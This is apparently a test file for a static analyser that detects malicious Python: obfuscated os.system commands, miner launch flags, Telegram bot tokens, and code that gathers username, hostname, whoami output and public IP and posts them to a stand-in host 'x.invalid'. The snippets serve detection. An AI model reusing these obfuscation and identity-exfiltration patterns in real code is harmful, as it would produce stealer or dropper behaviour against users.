import { expect, test } from 'vitest';
import type { Call, CallKind, TextMark } from '../../src/core/facts/source-facts.js';
import { decodedText } from '../../src/python/fold/decode.js';
import { read } from './reading.js';

const firstCall = async (text: string, kind: CallKind = 'process'): Promise<Call | undefined> => (await read(text)).facts?.calls(kind)[0];
const marksIn = async (text: string): Promise<readonly TextMark[]> => ((await read(text)).facts?.texts ?? []).map(({ mark }) => mark);
const sourcesOf = async (text: string): Promise<readonly string[]> => ((await read(text)).facts?.flows({ from: 'host', to: 'network' }) ?? []).map(({ source }) => source.name);

test.each([
  ['base64.b64decode', 'ZWNobyBo', 'echo h'],
  ['base64.urlsafe_b64decode', 'Pz8_', '???'],
  ['bytes.fromhex', '6563 686f', 'echo'],
  ['base64.b32decode', 'MVRWQ3Y=', 'echo'],
  ['rot13', 'rpub', 'echo'],
  ['base64.b85decode', 'Wn*Y>', 'echo'],
  ['base64.a85decode', 'ARfCl', 'echo'],
  ['cp1026', '\u0085\u0083\u0088\u0096', 'echo'],
])('%s of a constant is read', (decoder, coded, plain) => {
  expect(decodedText(decoder, coded)).toBe(plain);
});

test.each([
  ['another suffix', 'import os, pathlib\nos.system(str(pathlib.Path("/srv/leaf.py").with_suffix(".sh")))', '/srv/leaf.sh'],
  ['the text that a module begins with', '"echo leaf"\nimport os\nos.system(__doc__)', 'echo leaf'],
])('%s is known', async (_, text, started) => {
  expect((await firstCall(text))?.text).toBe(started);
});

test('what a miner is started with is told as a word of its own', async () => {
  expect(await marksIn('import subprocess\nsubprocess.Popen(["./leaf", "--donate-level", "1"])')).toContain('mining');
});

test.each([
  ['base64.b64decode', 'not base64!'],
  ['bytes.fromhex', 'xyz'],
  ['zlib.decompress', 'x'],
])('%s of what it cannot decode gives nothing', (decoder, coded) => {
  expect(decodedText(decoder, coded)).toBeNull();
});

test.each([
  ['decoded', 'import os, base64\nos.system(base64.b64decode(b"ZWNobyBo").decode())'],
  ['decoded by a codec', 'import os, codecs\nos.system(codecs.decode("rpub u", "rot13"))'],
  ['letter by letter', 'import os\nos.system("".join([chr(code) for code in [101, 99, 104, 111, 32, 104]]))'],
  ['shifted', 'import os\nos.system("".join(chr(ord(c) - 1) for c in "fdip!i"))'],
  ['mapped', 'import os\nos.system("".join(map(chr, [101, 99, 104, 111, 32, 104])))'],
  ['out of bytes', 'import os\nos.system(bytes([101, 99, 104, 111, 32, 104]).decode())'],
])('a command that is %s is read', async (_, text) => {
  expect((await firstCall(text))?.text).toBe('echo h');
});

test('text times a number is read', async () => {
  expect((await firstCall('import os\nos.system("ab" * 3)'))?.text).toBe('ababab');
});

test('text times a huge number is not built', async () => {
  expect((await firstCall('import os\nos.system("ab" * 10000000000)'))?.text).toBeNull();
});

test('a token is found however it is put together', async () => {
  const token = `AA${'example1x'.repeat(4).slice(0, 33)}`;
  expect(await marksIn(`import requests\na = "123456789:" + "${token}"`)).toEqual(['drop-token']);
  expect(await marksIn(`import requests\na = f"https://api.telegram.org/bot123456789:${token}/send"`)).toEqual(['drop-token']);
});

test('a token of which a part is missing is none', async () => {
  expect(await marksIn('import requests\na = f"123456789:AA{rest}"')).toEqual([]);
});

test('who the user is comes out of variables, commands and services as well', async () => {
  const text = 'import os, requests, subprocess\na = [os.environ["USERNAME"], os.getenv("HOSTNAME"), subprocess.check_output("whoami"), requests.get("https://api.ipify.org").text]\nrequests.post("https://x.invalid", json=a)';
  expect(new Set(await sourcesOf(text))).toEqual(new Set(['$USERNAME', '$HOSTNAME', 'whoami', 'the own address on the internet']));
});

test('other variables of the environment tell nothing about the user', async () => {
  expect(await sourcesOf('import os, requests\nrequests.post("https://x.invalid", json=os.environ["API_KEY"])')).toEqual([]);
});

test('what is done with a reply is no request of its own', async () => {
  const { facts } = await read('import requests\nrequests.get("https://x.invalid").json().get("ip")\nrequests.Session().get("https://y.invalid")');
  expect(facts?.calls('network').map(({ line }) => line)).toEqual([2, 3]);
  expect(facts?.calls('network').map(({ text }) => text)).toEqual(['https://x.invalid', 'https://y.invalid']);
});
